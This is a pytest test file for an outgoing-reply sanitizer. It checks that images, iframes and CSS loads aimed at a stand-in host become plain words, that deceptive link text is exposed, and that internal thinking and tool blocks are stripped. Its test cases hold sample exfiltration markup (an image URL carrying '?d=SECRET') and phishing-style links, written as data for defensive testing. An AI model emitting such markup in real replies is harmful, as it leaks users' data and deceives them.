from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stead.screen.outgoing import clean_reply, links


def rules(text: str) -> list[str]:
    return [warning.rule for warning in clean_reply(text).warnings]


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("a ![chart](https://evil.example/x?d=SECRET) b", "a [image: chart (evil.example)] b"),
        ("![](<https://evil.example/a b>)", "[image: no description (evil.example)]"),
        ('![c](https://evil.example/x "title")', "[image: c (evil.example)]"),
        ("![c](//evil.example/x)", "[image: c (evil.example)]"),
        ("![c][1]\n\n[1]: https://evil.example/x", "[image: c (evil.example)]\n\n[1]: https://evil.example/x"),
        ("![logo]\n\n[logo]: https://evil.example/x", "[image: logo (evil.example)]\n\n[logo]: https://evil.example/x"),
        ("<img src=https://evil.example/x alt='a b'>", "[image: a b (evil.example)]"),
        ('<IMG\nSRC="&#104;ttps://evil.example/x">', "[image: no description (evil.example)]"),
        ("<img srcset='https://evil.example/x 2x'>", "[image: no description (evil.example)]"),
        ("<iframe src='https://evil.example/'></iframe>x", "[iframe (evil.example)]x"),
        ("<video poster=https://evil.example/p></video>", "[video (evil.example)]"),
        ("<link rel=stylesheet href=https://evil.example/c>", "[link (evil.example)]"),
        ("<svg><image href='https://evil.example/x'/></svg>", "[image: no description (evil.example)]"),
        ("<div style='background:url(https://evil.example/x)'>a</div>", "<div>a</div>"),
        ('<p onclick="x()" class="y">a</p>', '<p class="y">a</p>'),
        ("[![alt](https://evil.example/x)](https://b.example)", "[[image: alt (evil.example)]](https://b.example)"),
    ],
)
def test_what_would_load_by_itself_becomes_words(text: str, left: str) -> None:
    assert clean_reply(text).text == left
    assert rules(text)


def test_images_of_kept_hosts_stay() -> None:
    text = "![c](https://own.example/x) ![d](https://evil.example/x)"
    assert clean_reply(text, keep_hosts=frozenset({"own.example"})).text == (
        "![c](https://own.example/x) [image: d (evil.example)]"
    )


@pytest.mark.parametrize(
    "text",
    [
        "[bank.example](https://evil.example/login)",
        "[https://bank.example/login](https://evil.example/login)",
        "[at www.bank.example](<https://evil.example/login>)",
        "[bank.example][b]\n\n[b]: https://evil.example/login",
        "<a href='https://evil.example/login'>bank.example</a>",
        "[b\u0430nk.example](https://evil.example/login)",
    ],
)
def test_a_link_that_claims_another_host_shows_its_own(text: str) -> None:
    screened = clean_reply(text)
    assert "[leads to evil.example]" in screened.text
    assert [warning.rule for warning in screened.warnings] == ["reply-link"]


@pytest.mark.parametrize(
    "text",
    [
        "[the report](https://a.example/report)",
        "[a.example](https://a.example/report)",
        "[https://a.example](https://a.example)",
        "See https://a.example/x_(y) and things, 1 < 2 > 0.",
        "| a | b |\n|---|---|\n| [x](https://a.example) | y |",
        "I am Claude, a model of Anthropic.",
        "a <b>bold</b> word, List<int>, <br>",
        "what the <thinker> said",
    ],
)
def test_an_honest_reply_stays_as_it_is(text: str) -> None:
    assert clean_reply(text).text == text
    assert clean_reply(text).warnings == ()


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("<thinking>secret plan</thinking>Hello", "Hello"),
        ("a<thinking>x<thinking>y</thinking>z</thinking>b", "ab"),
        ("a <tool_call name='x'>{}</tool_call> b", "a  b"),
        ("a <SYSTEM>x</SYSTEM>b", "a b"),
        ("a <|im_end|>b", "a b"),
        ("<<<data 12ab from page\nx\n>>>end 12ab\ny", "x\ny"),
        ("Hello </thinking>there", "Hello there"),
        ("Hello <thinking>there", "Hello there"),
    ],
)
def test_internal_blocks_are_left_out(text: str, left: str) -> None:
    assert clean_reply(text).text == left
    assert rules(text) == ["reply-internal"]


@given(st.text("![]()<>/ab:.x\"'= \nhtps", max_size=200))
def test_no_image_of_another_host_is_left(text: str) -> None:
    clean = clean_reply(f"{text} ![x](https://evil.example/x) <img src=https://evil.example/y>").text
    assert "![x](https://evil.example" not in clean
    assert "<img src=" not in clean


@given(st.text(max_size=300))
def test_any_reply_is_answered(text: str) -> None:
    assert isinstance(clean_reply(text).text, str)
    assert isinstance(links(text), tuple)


@pytest.mark.parametrize(
    "piece",
    [
        "![",
        "![a](",
        "[a](",
        "[",
        "<img ",
        "<img src=x",
        "<a ",
        "<thinking>",
        "</thinking>",
        "(",
        "<",
        "[a]: ",
        "style=",
    ],
)
def test_hostile_text_takes_linear_time(piece: str) -> None:
    started = time.process_time()
    clean_reply(piece * (300_000 // len(piece)))
    assert time.process_time() - started < 15
